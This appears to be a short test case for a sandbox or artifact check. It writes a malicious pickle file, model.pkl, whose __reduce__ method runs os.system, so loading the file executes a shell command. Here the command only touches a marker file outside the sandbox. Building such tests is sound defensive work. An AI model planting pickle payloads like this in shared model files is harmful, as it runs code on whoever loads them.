"""Leave a pickle that runs a command where it is read.

category: artifacts
ends: ok
get: model.pkl
"""

import pickle


class Bomb:
    def __reduce__(self):
        return (os.system, (f"touch {host.outside}/{host.mark}",))


open("model.pkl", "wb").write(pickle.dumps(Bomb()))
